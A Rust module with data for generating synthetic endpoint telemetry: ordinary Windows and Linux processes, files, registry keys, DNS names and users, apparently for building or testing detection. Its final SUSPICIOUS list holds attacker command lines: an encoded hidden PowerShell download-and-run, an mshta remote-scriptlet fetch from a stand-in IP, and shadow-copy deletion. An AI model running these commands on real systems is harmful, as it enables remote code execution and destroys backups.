//! What runs on the hosts of the generated telemetry: programs, what they are called with, load, write and ask for.

/// A system.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum System {
    Windows,
    Linux,
}

/// A program, with what it is usually started with.
pub(super) struct Program {
    pub(super) path: &'static str,
    /// Who signed it, where programs are signed.
    pub(super) signer: Option<&'static str>,
    /// Whether the system runs it, not a person.
    pub(super) is_service: bool,
    /// Argument lists, the program's own name aside; `{}` is a number that differs from run to run.
    pub(super) arguments: &'static [&'static str],
}

impl Program {
    /// Which of the first three programs starts it.
    pub(super) fn starter(&self) -> usize {
        if !self.is_service && !self.path.starts_with(r"C:\Windows\System32") {
            1
        } else if self.path.starts_with(r"C:\Windows\System32") {
            2
        } else {
            0
        }
    }
}

const fn program(
    path: &'static str,
    signer: &'static str,
    is_service: bool,
    arguments: &'static [&'static str],
) -> Program {
    let signer = if signer.is_empty() { None } else { Some(signer) };
    Program { path, signer, is_service, arguments }
}

const MICROSOFT_WINDOWS: &str = "Microsoft Windows";
const MICROSOFT: &str = "Microsoft Corporation";

/// The first three of each list start the others: services, what people start, and what the host of services starts.
pub(super) const WINDOWS: [Program; 22] = [
    program(r"C:\Windows\System32\services.exe", "Microsoft Windows Publisher", true, &[""]),
    program(r"C:\Windows\explorer.exe", MICROSOFT_WINDOWS, false, &[""]),
    program(
        r"C:\Windows\System32\svchost.exe",
        "Microsoft Windows Publisher",
        true,
        &[
            "-k netsvcs -p -s Schedule",
            "-k LocalService -p",
            "-k NetworkService -p -s Dnscache",
            "-k wsappx -p -s AppXSvc",
        ],
    ),
    program(
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "Google LLC",
        false,
        &[
            "--type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={}",
            "--type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none",
            "--type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAA",
        ],
    ),
    program(
        r"C:\Program Files (x86)\Microsoft\EdgeWebView2\Application\128.0.2739.42\msedgewebview2.exe",
        MICROSOFT,
        false,
        &[
            "--type=renderer --noerrdialogs --user-data-dir=Teams --webview-exe-name=ms-teams.exe --renderer-client-id={}",
        ],
    ),
    program(r"C:\Windows\System32\RuntimeBroker.exe", MICROSOFT_WINDOWS, false, &["-Embedding"]),
    program(
        r"C:\Windows\System32\backgroundTaskHost.exe",
        MICROSOFT_WINDOWS,
        false,
        &["-ServerName:App.AppX{}.mca"],
    ),
    program(r"C:\Windows\System32\ctfmon.exe", MICROSOFT_WINDOWS, false, &[""]),
    program(r"C:\Windows\System32\MoUsoCoreWorker.exe", MICROSOFT_WINDOWS, true, &["-Embedding"]),
    program(r"C:\Windows\System32\taskhostw.exe", MICROSOFT_WINDOWS, true, &["Install {}", "KEYROAMING"]),
    program(r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", MICROSOFT, false, &["/recycle"]),
    program(
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        MICROSOFT,
        false,
        &["Planning-{}.xlsx"],
    ),
    program(
        r"C:\Program Files\Windows Defender\MpCmdRun.exe",
        MICROSOFT_WINDOWS,
        true,
        &["SignatureUpdate -ScheduleJob"],
    ),
    program(
        r"C:\Windows\System32\dllhost.exe",
        MICROSOFT_WINDOWS,
        true,
        &["/Processid:{973D20D7-562D-44B9-B70B-5A0F49CCDF3F}"],
    ),
    program(r"C:\Program Files\7-Zip\7zG.exe", "", false, &["x -o\"Reports-{}\""]),
    program(r"C:\Windows\System32\wbem\WmiPrvSE.exe", MICROSOFT_WINDOWS, true, &["-secured -Embedding"]),
    program(
        r"C:\Program Files\Microsoft VS Code\Code.exe",
        MICROSOFT,
        false,
        &["--type=utility --lang=en-US --field-trial-handle={}"],
    ),
    program(
        r"C:\Program Files\Git\cmd\git.exe",
        "Johannes Schindelin",
        false,
        &["status -z -uall", "fetch", "rev-parse HEAD"],
    ),
    program(r"C:\Windows\System32\smartscreen.exe", MICROSOFT_WINDOWS, false, &["-Embedding"]),
    program(r"C:\Windows\System32\audiodg.exe", MICROSOFT_WINDOWS, true, &["0x{}"]),
    program(r"C:\Windows\System32\notepad.exe", MICROSOFT_WINDOWS, false, &["notes-{}.txt"]),
    program(
        r"C:\Program Files\Zoom\bin\Zoom.exe",
        "Zoom Video Communications, Inc.",
        false,
        &["--action=join"],
    ),
];

pub(super) const LINUX: [Program; 12] = [
    program("/usr/lib/systemd/systemd", "", true, &["--switched-root --system --deserialize {}"]),
    program("/usr/bin/make", "", false, &["-j8 all", "-s check"]),
    program("/usr/sbin/cron", "", true, &["-f -P"]),
    program("/usr/bin/gcc-12", "", false, &["-O2 -Wall -c -o build/module-{}.o src/module-{}.c"]),
    program("/usr/lib/postgresql/15/bin/postgres", "", true, &["-D /var/lib/postgresql/15/main"]),
    program("/usr/bin/git", "", false, &["status --porcelain", "rev-parse HEAD"]),
    program("/usr/sbin/nginx", "", true, &["-g daemon off;"]),
    program("/usr/bin/sort", "", false, &["-u", "-n -k 2"]),
    program("/usr/bin/ls", "", false, &["-la", "--color=auto"]),
    program("/usr/bin/date", "", true, &["+%s"]),
    program("/usr/bin/java", "", true, &["-Xmx2g -jar /opt/orders/orders.jar --server.port={}"]),
    program("/usr/bin/run-parts", "", true, &["--report /etc/cron.hourly"]),
];

/// Libraries that programs load, below the folder of the system.
pub(super) const LIBRARIES: [&str; 12] = [
    "ntdll.dll",
    "kernel32.dll",
    "KernelBase.dll",
    "combase.dll",
    "rpcrt4.dll",
    "ucrtbase.dll",
    "shell32.dll",
    "crypt32.dll",
    "dnsapi.dll",
    "mswsock.dll",
    "uxtheme.dll",
    "propsys.dll",
];

/// Files that are written: folder and name, where `{}` is a number, and `%` the user.
pub(super) const WINDOWS_FILES: [(&str, &str); 6] = [
    (r"C:\Users\%\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data", "f_{}"),
    (r"C:\Users\%\AppData\Local\Microsoft\Outlook\RoamCache", "Stream_Calendar_{}.dat"),
    (r"C:\Users\%\Documents\Planning", "Planning-{}.xlsx"),
    (r"C:\ProgramData\Microsoft\Search\Data\Applications\Windows", "edb{}.jtx"),
    (r"C:\Users\%\AppData\Roaming\Code\logs", "renderer-{}.log"),
    (r"C:\Windows\SoftwareDistribution\DataStore\Logs", "edb{}.log"),
];

pub(super) const LINUX_FILES: [(&str, &str); 4] = [
    ("/home/%/src/orders/build", "module-{}.o"),
    ("/var/lib/postgresql/15/main/base/16384", "{}"),
    ("/home/%/.cache/pip/http", "body-{}.cache"),
    ("/var/log/nginx", "access-{}.log"),
];

/// Registry values that are set, below a hive: key and value.
pub(super) const REGISTRY: [(&str, &str); 5] = [
    (r"SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs", "MRUListEx"),
    (r"SOFTWARE\Microsoft\Office\16.0\Excel\Place MRU", "Item {}"),
    (r"SOFTWARE\Google\Update\ClientState\{8A69D345-D564-463C-AFF1-A69D9E530F96}", "LastCheckSuccess"),
    (r"SOFTWARE\Microsoft\Windows Search\UsnNotifier\Windows\Catalogs", "SystemIndex"),
    (r"SYSTEM\ControlSet001\Services\Tcpip\Parameters\Interfaces", "DhcpServer"),
];

/// Names that are asked for, and the address of each.
pub(super) const NAMES: [(&str, &str); 10] = [
    ("outlook.office365.com", "52.97.144.2"),
    ("www.google.com", "142.250.74.36"),
    ("fileserver.meadow.example", "10.30.1.20"),
    ("update.googleapis.com", "142.250.74.99"),
    ("git.meadow.example", "10.30.1.31"),
    ("teams.microsoft.com", "52.113.194.132"),
    ("proxy.meadow.example", "10.30.1.8"),
    ("ctldl.windowsupdate.com", "93.184.221.240"),
    ("printer.meadow.example", "10.30.1.77"),
    ("packages.meadow.example", "10.30.1.40"),
];

/// People.
pub(super) const USERS: [&str; 12] = [
    "ines.roth",
    "tom.okafor",
    "lena.brandt",
    "sami.haddad",
    "ruth.levy",
    "paul.novak",
    "mei.tan",
    "olga.petrova",
    "jon.dale",
    "eva.costa",
    "nils.berg",
    "ana.silva",
];

/// What an attacker would start on Windows: program, arguments.
pub(super) const SUSPICIOUS: [(&str, &str); 3] = [
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "-nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAApAA==",
    ),
    (
        r"C:\Windows\System32\mshta.exe",
        "javascript:a=GetObject(\"script:http://203.0.113.9/a.sct\").Exec();close();",
    ),
    (r"C:\Windows\System32\vssadmin.exe", "delete shadows /all /quiet"),
];
